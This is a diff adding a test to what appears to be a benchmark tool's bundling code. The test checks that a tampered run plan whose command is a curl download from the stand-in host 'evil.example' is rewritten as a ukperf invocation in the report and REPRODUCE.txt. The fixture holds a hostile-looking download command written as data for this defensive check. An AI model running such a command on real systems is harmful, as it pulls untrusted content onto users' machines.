@@ -162,6 +162,14 @@ def test_a_run_in_which_nothing_went_well_can_be_handed_on(tmp_path: Path, shell
     assert "has no boots" in shell.refusal("report", f"{target}/lost")
 
 
+def test_the_command_of_somebody_elses_run_is_one_of_ukperfs(tmp_path: Path, shell: Shell) -> None:
+    folder, target = run(tmp_path / "one"), tmp_path / "one.tar.gz"
+    save(replace(load_plan(folder), command=("curl", "evil.example", "-o", "x")), folder)
+    bundle([folder], target, plain)
+    assert "Again: ukperf evil.example -o x --seed" in shell("report", str(target))[1]
+    assert b"  ukperf evil.example -o x --seed" in members(target)[f"{TOP}/REPRODUCE.txt"]
+
+
 def test_only_folders_of_runs_become_a_bundle(tmp_path: Path, shell: Shell) -> None:
     folder, target = run(tmp_path / "one"), tmp_path / "one.tar.gz"
     bundle([folder], target, plain)
